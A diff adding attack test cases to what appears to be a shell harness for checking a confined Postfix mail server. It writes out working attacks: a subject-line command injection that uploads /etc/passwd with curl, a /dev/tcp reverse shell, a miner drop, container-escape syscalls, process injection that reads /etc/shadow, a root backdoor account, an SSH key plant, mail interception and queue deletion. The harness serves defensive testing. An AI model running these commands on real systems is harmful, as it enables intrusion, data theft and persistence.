@@ -314,3 +314,211 @@ rare_settings_command() {
 	session postfix /usr/sbin/postmap -q sales@firm.example hash:/etc/postfix/virtual
 	session postfix /usr/sbin/postfix reload
 }
+
+# ---- attacks ----
+
+# ticket_runs COMMANDS [BODY]: by the subject of a letter to the tickets.
+ticket_runs() {
+	mail to help@tickets.firm.example "x\"; $(tr -s '\n\t' ' ' <<<"$1"); echo \"" "${2:-Please help.}"
+}
+
+attack_command_injection() {
+	harm exec /usr/bin/id
+	harm read /etc/passwd
+	harm connect "$peer_address:4444"
+	thief_begin
+	ticket_runs "(id; cat /etc/passwd /srv/tickets/index) >/tmp/x;
+		curl -s --max-time 3 -T /tmp/x http://$peer_address:4444/"
+	thief_got 'uid=1100'
+	thief_got '^dora:'
+}
+
+attack_reverse_shell() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:4444"
+	harm exec /usr/bin/id
+	thief_shell 'id; cat /etc/aliases; ls -la /home; exit'
+	ticket_runs "bash -c 'bash -i >/dev/tcp/$peer_address/4444 0<&1 2>&1'"
+	thief_got 'uid=1100'
+}
+
+attack_miner() {
+	harm write /var/tmp/.smtpd
+	harm exec /var/tmp/.smtpd
+	harm connect "$peer_address:3333"
+	armoury_begin
+	ticket_runs "$(miner_commands /var/tmp/.smtpd)"
+	pool_got
+}
+
+attack_scan() {
+	harm exec /usr/bin/bash
+	harm connect "$peer_address:22"
+	harm connect "$peer_address:5432"
+	ticket_runs "bash -c 'for p in 21 22 25 80 443 2525 3306 5432 6379 8000; do echo >/dev/tcp/$peer_address/\$p \
+&& echo open \$p; done >/srv/tickets/ports 2>&1'"
+	until_true 20 grep -qs 'open 2525' "$(volume_path postfix /srv/tickets)/ports"
+}
+
+# Ways out of the container, each tried by a program that a letter brings.
+attack_escape() {
+	harm call mount
+	harm call unshare
+	harm call setns
+	harm call ptrace
+	# shellcheck disable=SC2016 # the container's shell
+	ticket_runs 'cd /srv/tickets; ls -t | head -n 1 >/tmp/last;
+		sed "1,/^$/d" "$(cat /tmp/last)" | python3 >escape 2>&1' 'import ctypes
+c = ctypes.CDLL(None)
+print(c.mount(0, 0, 0, 0, 0), c.setns(0, 0), c.ptrace(16, 1, 0, 0))
+print(c.open(b"/proc/sys/kernel/core_pattern", 1), c.open(b"/proc/1/root/etc/shadow", 0))
+print("unshare", c.unshare(0x10020000))'
+	until_true 20 grep -qs '^unshare' "$(volume_path postfix /srv/tickets)/escape"
+}
+
+# Passwords are tried until one fits; then the account sends letters to many.
+attack_brute_force() {
+	local word
+	harm connect "$peer_address:2525"
+	for word in 123456 password letmein monkey quiet{1..9}; do
+		echo 'a stolen account' | mail_from dora "$word" friend{1..9}@partner.example || continue
+		until_true 20 grep -q 'stolen account' "$stage/peer-relay.log" && return
+	done
+	return 1
+}
+
+# Code inside the master, which is root, starts a shell.
+attack_code_shell() {
+	harm exec /usr/bin/dash
+	harm exec /usr/bin/id
+	harm write /tmp/out
+	inject_pid "${container_pid[postfix]}" 'call (int) system("id >/tmp/out; cat /home/*/Maildir/new/* >>/tmp/out")'
+	grep -q 'uid=0' "$(image_path postfix /tmp/out)"
+	grep -q '^Subject:' "$(image_path postfix /tmp/out)"
+}
+
+# The same reads what only root may, without a program.
+attack_code_credentials() {
+	harm read /etc/shadow
+	harm read /etc/postfix/tls/key.pem
+	inject_pid "${container_pid[postfix]}" 'print (int) open("/etc/shadow", 0)' \
+		'print (int) open("/etc/postfix/tls/key.pem", 0)' | tee "$stage/answer"
+	[ "$(grep -cE '= [0-9]+' "$stage/answer")" = 2 ]
+}
+
+# smtpd_held: a client holds a connection to the port of submissions for a while.
+smtpd_held() {
+	{
+		printf 'EHLO client.peer.example\r\n'
+		sleep 30
+	} | client_stdin socat -t 1 - "TCP:$own_address:587" >"$stage/held" 2>&1 &
+	children[$!]=1
+	until_true 20 grep -q '^250 ' "$stage/held"
+}
+
+# Code inside an smtpd, which is in the jail: the passwords of all users, and no program.
+attack_code_connect() {
+	local s f held='^smtpd -n submission -'
+	harm read '*/etc/sasldb2'
+	harm connect "$peer_address:4444"
+	thief_begin
+	smtpd_held
+	# As inject_theft() does it.
+	s=$(inject_call postfix "$held" 41 2 1 0)
+	inject_call postfix "$held" 42 "${s#* }" words:0x0100580a5c110002,0 16
+	f=$(inject_call postfix "$held" 257 -100 '"/etc/sasldb2"' 0 0)
+	inject_call postfix "$held" 40 "${s#* }" "${f#* }" 0 20000
+	inject_call postfix "$held" 3 "${s#* }"
+	inject_call postfix "$held" 3 "${f#* }"
+	thief_got 'harbour1'
+}
+
+# Settings of the attacker's: a copy of every letter goes to a stranger.
+attack_interception() {
+	harm rename '/etc/postfix/main.cf*'
+	harm exec /usr/sbin/postconf
+	inject_pid "${container_pid[postfix]}" 'call (int) system("postconf -e always_bcc=spy@partner.example")'
+	reload_service
+	sleep 2
+	mail to dora@firm.example Secret 'the stolen letter'
+	until_true 20 grep -q 'the stolen letter' "$stage/peer-relay.log"
+}
+
+# A user with a password, and a key of a user who may log in.
+attack_persistence() {
+	harm write /etc/passwd
+	harm write /home/ann/.ssh/authorized_keys
+	inject_pid "${container_pid[postfix]}" 'call (int) system("echo ops:x:0:0::/:/bin/sh >>/etc/passwd")' \
+		'call (int) system("mkdir /home/ann/.ssh; echo ssh-ed25519 AAAA thief >>/home/ann/.ssh/authorized_keys")'
+	grep -q thief "$(volume_path postfix /home)/ann/.ssh/authorized_keys"
+}
+
+# ---- adaptive: known calls, files and peers only ----
+
+# The stolen password of a user: many letters to many.
+adaptive_spam() {
+	local i
+	harm connect "$peer_address:2525"
+	for i in 1 2 3 4 5; do
+		seq 100 | sed "s/^/buy now, number $i /" | mail_from bob winter22 customer{1..12}@partner.example
+	done
+	until_true 20 spam_is_sent
+}
+
+spam_is_sent() {
+	[ "$(grep -c '^took .*A letter' "$stage/peer-relay.log")" -ge 40 ]
+}
+
+# All tickets, by the tickets' own program, in a letter to a customer.
+adaptive_tickets_mailed() {
+	harm read '/srv/tickets/*.txt'
+	harm exec /usr/sbin/sendmail
+	mail ticket
+	mail ticket
+	sleep 2
+	# shellcheck disable=SC2016 # the container's shell
+	ticket_runs 'for f in /srv/tickets/*.txt; do while read -r l; do echo "stolen $l"; done <$f; done |
+		/usr/sbin/sendmail -f tickets@firm.example friend7@partner.example'
+	until_true 20 grep -q 'stolen Subject' "$stage/peer-relay.log"
+}
+
+# queue_files: those of letters that wait, as the queue manager names them.
+queue_files() {
+	(cd "$(volume_path postfix /var/spool/postfix)" && find deferred -type f)
+}
+
+letters_wait() {
+	[ "$(queue_files | wc -l)" -ge 3 ]
+}
+
+some_letters_wait() {
+	local i
+	for i in 1 2 3 4; do
+		mail later
+	done
+	until_true 20 letters_wait
+}
+
+# Code inside the queue manager reads all letters that wait.
+adaptive_queue_read() {
+	local file commands=()
+	harm read '*deferred/*'
+	some_letters_wait
+	while read -r file; do
+		commands+=("print (int) open(\"$file\", 0)" 'call (int) close($)')
+	done < <(queue_files)
+	inject_pid "$(tasks_named postfix '^qmgr ' | head -n 1)" "${commands[@]}" | tee "$stage/answer"
+	[ "$(grep -cE '= [0-9]+$' "$stage/answer")" -ge 3 ]
+}
+
+# The same deletes them.
+adaptive_queue_lost() {
+	local file commands=()
+	harm unlink '*deferred/*'
+	some_letters_wait
+	while read -r file; do
+		commands+=("print (int) unlink(\"$file\")")
+	done < <(queue_files)
+	inject_pid "$(tasks_named postfix '^qmgr ' | head -n 1)" "${commands[@]}" | grep -c '= 0$'
+	! letters_wait
+}
